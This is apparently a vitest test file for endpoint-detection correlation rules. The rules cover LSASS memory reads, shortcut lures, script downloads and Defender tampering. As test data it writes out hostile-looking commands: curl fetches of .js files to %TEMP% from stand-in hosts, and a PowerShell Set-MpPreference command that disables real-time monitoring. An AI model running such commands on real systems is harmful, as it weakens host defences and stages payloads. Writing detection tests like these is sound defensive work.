import { describe, expect, it } from 'vitest'
import { expandUser, toAbsolute } from '../../../core/correlation/command-line.ts'
import { exampleEvent } from '../../../core/correlation/example.ts'
import { judgeReportedAccess } from '../../../core/correlation/lsass-access.ts'
import type { Rule } from '../../../core/correlation/rule.ts'
import lsass from '../../../core/correlation/rules/credentials.lsass.rule.ts'
import lured from '../../../core/correlation/rules/file.lured.rule.ts'
import session from '../../../core/correlation/rules/logon.session.rule.ts'
import download from '../../../core/correlation/rules/process.download.rule.ts'
import evasion from '../../../core/correlation/rules/process.evasion.rule.ts'
import { findRelations } from '../../support/case-builder.ts'

type Items = Parameters<typeof findRelations>[0]
const detected = (rule: Rule, items: Items) =>
  findRelations(items, [rule]).detections.map(({ what, level }) => `${what} ${level}`)

describe('a read of lsass.exe that a sensor reports without a mask', () => {
  const read = (processPath: string, action: string) =>
    exampleEvent('process-access', 0, {
      processPath,
      pid: 7,
      action,
      target: 'C:\\Windows\\System32\\lsass.exe',
      targetPid: 600,
    })
  it('is high for a program from nowhere', () => {
    expect(detected(lsass, [read('C:\\ProgramData\\upd.exe', 'MODIFIED_PROCESS_READ_PROCESS')])).toEqual([
      'credential-memory high',
    ])
  })
  it('is none for known callers and for other deeds', () => {
    expect(
      detected(lsass, [read('C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'MODIFIED_PROCESS_READ_PROCESS')]),
    ).toEqual([])
    expect(detected(lsass, [read('C:\\ProgramData\\upd.exe', 'MODIFIED_PROCESS_OPEN')])).toEqual([])
    expect(judgeReportedAccess('C:\\a.exe', 'MODIFIED_PROCESS_WRITE_MEMORY')?.access).toBe('inject')
  })
})

describe('a shortcut that starts in the folder of Windows', () => {
  const scene = (seconds: number, command: string, directory = 'C:\\Windows\\System32\\') => [
    exampleEvent('file-create', 0, {
      processPath: 'C:\\x\\7zFM.exe',
      pid: 3,
      target: 'C:\\Users\\amber\\Downloads\\Angebot.lnk',
    }),
    exampleEvent('process-start', seconds, {
      processPath: 'C:\\Windows\\System32\\cmd.exe',
      pid: 9,
      parentPath: 'C:\\Windows\\explorer.exe',
      commandLine: `"C:\\Windows\\System32\\cmd.exe" ${command}`,
      detail: `CurrentDirectory: ${directory}`,
    }),
  ]
  it('is found right after it came, or with a command that fetches', () => {
    expect(detected(lured, scene(30, '/c start x.bat'))).toEqual(['shortcut medium'])
    expect(detected(lured, scene(600, '/c curl -s https://files.example/a.js'))).toEqual(['shortcut medium'])
  })
  it('is none later without one, and none in a folder of its own', () => {
    expect(detected(lured, scene(600, '/c start x.bat'))).toEqual([])
    expect(detected(lured, scene(30, '/c build.bat', 'C:\\Work\\project\\'))).toEqual([])
  })
})

describe('variables of the user in commands', () => {
  const near = ['C:\\Users\\petra.voss\\Downloads']
  it('are filled in by the profile the process works in', () => {
    expect(expandUser('-o %TEMP%\\a.js', near)).toBe('-o C:\\Users\\petra.voss\\AppData\\Local\\Temp\\a.js')
    expect(expandUser('$env:APPDATA\\a.js', near)).toBe('C:\\Users\\petra.voss\\AppData\\Roaming\\a.js')
    expect(expandUser('C:\\Users\\PETRA~1.VOS\\a.js', [], 'petra.voss')).toBe('C:\\Users\\petra.voss\\a.js')
  })
  it('stay as they are where nobody knows whose they are', () => {
    expect(expandUser('%TEMP%\\a.js', ['C:\\Windows\\System32\\cmd.exe'])).toBe('%TEMP%\\a.js')
    expect(expandUser('C:\\Users\\PETRA~1.VOS\\a.js', [], 'lars')).toBe('C:\\Users\\PETRA~1.VOS\\a.js')
    expect(toAbsolute('%TEMP%\\a.js', 'C:\\Users\\petra.voss\\Downloads')).toBeUndefined()
  })
  it('make one file of a download named twice', () => {
    const fetch = (processPath: string, commandLine: string, detail?: string) =>
      exampleEvent('process-start', 0, {
        processPath,
        pid: 9,
        account: 'CORP\\petra.voss',
        commandLine,
        detail,
      })
    const { relations } = findRelations(
      [
        fetch(
          'C:\\Windows\\System32\\cmd.exe',
          'cmd /c curl -o %TEMP%\\a.js https://f.example/a.js',
          `CurrentDirectory: ${near[0] ?? ''}\\x\\`,
        ),
        fetch(
          'C:\\Windows\\System32\\curl.exe',
          'curl -o C:\\Users\\PETRA~1.VOS\\AppData\\Local\\Temp\\a.js https://f.example/a.js',
        ),
      ],
      [download],
    )
    expect(
      relations.filter(({ kind }) => kind === 'downloaded-to').map(({ to, count }) => `${to} ${count}`),
    ).toEqual(['a.js 2'])
  })
})

describe('what the scanner reports after a command', () => {
  const scene = (seconds: number) => [
    exampleEvent('process-start', 0, {
      processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      pid: 6,
      commandLine: 'powershell Set-MpPreference -DisableRealtimeMonitoring $true',
    }),
    exampleEvent('protection-change', seconds, { action: 'real-time-disabled' }),
  ]
  const involved = (seconds: number) =>
    findRelations(scene(seconds), [evasion]).detections.find(({ subjectKind }) => subjectKind === 'endpoint')
      ?.involved
  it('names the process that ordered it, within a minute', () => {
    expect(involved(5)).toEqual(['powershell.exe'])
    expect(involved(300)).toEqual([])
  })
})

describe('a logon whose record names no type', () => {
  it('is told without one', () => {
    const { relations } = findRelations(
      [exampleEvent('logon', 0, { account: 'CORP\\amber', sourceIp: '10.0.0.9' })],
      [session],
    )
    expect(relations.map(({ reason }) => reason.key)).toEqual(['rule.logon.session.reason.untyped_from'])
  })
})
